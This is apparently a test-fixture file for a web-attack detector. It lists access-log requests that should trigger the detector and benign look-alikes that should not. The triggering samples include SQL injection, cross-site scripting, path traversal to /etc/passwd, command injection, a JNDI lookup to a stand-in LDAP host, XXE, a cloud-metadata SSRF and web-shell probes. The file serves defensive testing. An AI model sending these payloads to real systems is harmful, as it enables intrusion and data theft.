// What must and must not make the web attack model speak; declared in web-attack.ts, walked by models.test.ts.
import type { Sample } from '../define-model.js'

function request(target: string, status = 200, bytes = 1_500, agent = 'Mozilla/5.0 (Windows NT 10.0)'): string {
  return `192.0.2.7 - - [24/Nov/2026:08:00:00 +0800] "GET ${target} HTTP/1.1" ${status} ${bytes} "-" "${agent}"`
}

const one = (what: string, ...args: Parameters<typeof request>): Sample => ({ what, lines: [request(...args)] })
const pages = Array.from({ length: 9 }, (_, n) => request(`/item?id=${n}`, 200, 1_500 + n))

export const webAttackSamples: { readonly fires: readonly Sample[]; readonly silent: readonly Sample[] } = {
  fires: [
    one('a union', '/item?id=1%20UNION%20SELECT%201,2,3--'),
    one(
      'a union with comments for blanks, encoded twice',
      '/item?id=1%252f%252a%252a%252fUNION%252f%252a%252a%252fSELECT%252f%252a%252a%252f1%2C2',
    ),
    one('a tautology', "/login?user=admin'%20or%20'1'='1"),
    one('a script', '/s?q=%3Cscript%3Ealert(1)%3C/script%3E', 403),
    one('a handler without blanks', '/s?q=%3Csvg/onload=confirm`1`%3E'),
    one('climbing up', '/f?name=..%2f..%2f..%2fetc%2fpasswd', 404),
    one('overlong dots', '/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd', 404),
    one('a command after a separator', '/ping?ip=127.0.0.1%3Bcat%20/etc/hosts'),
    one('a command in pieces', "/ping?ip=%3Bwho''ami"),
    one('a template', '/t?n=%7B%7B7*7%7D%7D'),
    one('a lookup in the name of the browser', '/', 200, 10, '${jndi:ldap://x.example/a}'),
    one('serialised Java', '/api?d=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA'),
    one('an external entity', '/x?d=%3C!ENTITY%20a%20SYSTEM%20%22file:///etc/passwd%22%3E'),
    one('the metadata service', '/fetch?url=http://169.254.169.254/latest/meta-data/'),
    one('a back door by its name', '/uploads/c99.php', 404),
    one('a known hole', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 404),
    one('a private file', '/.env', 404),
    { what: 'an answer that is not the usual one', lines: [...pages, request("/item?id=1'%20or%201=1--", 200, 98_000)] },
  ],
  silent: [
    one('words that are also SQL', '/s?q=select+a+plan+from+the+drop-down+menu'),
    one('a name with an apostrophe', "/s?q=O'Brien+and+D'Angelo"),
    one('signs of programming languages', '/s?q=C%2B%2B+%7C%7C+C%23'),
    one('a condition in brackets', '/s?q=if+(x+%3E+3)'),
    one('a path with dots inside', '/s?q=path/to/../file'),
    one('a filter in JSON', '/s?filter=%7B%22price%22%3A%7B%22gt%22%3A5%7D%2C%22name%22%3A%22AT%26T%22%7D'),
    one('a link to come back to', '/login?next=https%3A%2F%2Fwww.example.com%2Fpay%2Fdone'),
    one('a token', '/cb?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV'),
    one('Chinese', '/s?q=%E4%BB%B7%E6%A0%BC%EF%BC%88%E5%90%AB%E7%A8%8E%EF%BC%89'),
    one('a file of numbered copies', '/d?name=report(1).pdf'),
    { what: 'ordinary pages', lines: pages },
  ],
}
